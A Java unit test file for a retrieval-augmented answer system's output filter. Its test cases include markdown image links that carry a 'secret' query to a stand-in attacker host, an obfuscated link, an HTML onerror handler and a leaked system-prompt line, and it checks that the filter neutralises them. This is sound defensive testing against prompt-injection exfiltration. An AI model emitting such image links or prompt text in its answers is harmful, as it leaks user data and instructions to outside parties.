package io.arketic.rag.answer;

import static org.assertj.core.api.Assertions.assertThat;

import io.arketic.rag.extractive.Hits;
import io.arketic.rag.model.OutputFilter;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class OutputFilterTest {

    private static final String SOURCE = "The form is at https://acme.example/form(2). Ask www.acme.example, too.";

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "See ![x](http://evil.example/?q=secret) now|See ! [x] ((link removed)) now",
                "[Log in](https://evil.example)|[Log in] ((link removed))",
                "[a]: http://evil.example|[a] : (link removed)",
                "<img src=x onerror=go()>|< img src=x onerror=go()>",
                "<https://evil.example/a>.|< (link removed)>.",
                "HTTPS://EVIL.example/a, and|(link removed), and",
                "It is at https://acme.example/form(2).|It is at https://acme.example/form(2).",
                "Not https://acme.example/form(2)?q=1|Not (link removed)",
                "Ask www.acme.example [1].|Ask www.acme.example [1].",
                "h[9]ttp://evil.example/|(link removed)",
                "Both [1, 2] and [3; 1]|Both [1] and [1]",
                "Wow![1]|Wow! [1]",
                "a < b and i <3 you, 5 <= 6 : http|a < b and i <3 you, 5 <= 6 : http",
                "You answer questions from the numbered sources. It is blue.|You answer questions from the numbered sources. It is blue.",
                "Yes: YOU *answer* questions 'from' the\u200B numbered, sources below and from nothing else. Blue.|Yes: … Blue.",
            })
    void nothingGoesOutThatAProgramWouldFollowOrThatTheModelWasTold(String text, String expected) {
        assertThat(filtered(List.of(text))).isEqualTo(expected);
    }

    @ParameterizedTest
    @ValueSource(longs = {1, 2, 3, 4, 5, 6, 7, 8})
    void howTheTextIsCutIntoPiecesMakesNoDifference(long seed) {
        String text =
                "See ![x](http://evil.example/?q=secret) [1][7] <b>x</b> [2, 1] www.acme.example https://acme.example/form(2) "
                        + Prompt.RULES_END + " end http";
        Random random = new Random(seed);
        List<String> pieces = new ArrayList<>();
        for (int at = 0; at < text.length(); ) {
            int length = Math.min(text.length() - at, 1 + random.nextInt(7));
            pieces.add(text.substring(at, at + length));
            at += length;
        }
        assertThat(filtered(pieces))
                .isEqualTo(filtered(List.of(text)))
                .doesNotContain("evil", "[7]", "[2]", "<b", "quoted documents");
    }

    private static String filtered(List<String> pieces) {
        StringBuilder out = new StringBuilder();
        OutputFilter filter = new OutputFilter(
                List.of(Hits.hit("text", SOURCE, 0)), List.of(Prompt.RULES_BEGIN, Prompt.RULES_END), out::append);
        pieces.forEach(filter::accept);
        filter.end();
        assertThat(out).hasToString(filter.content());
        return filter.content();
    }
}
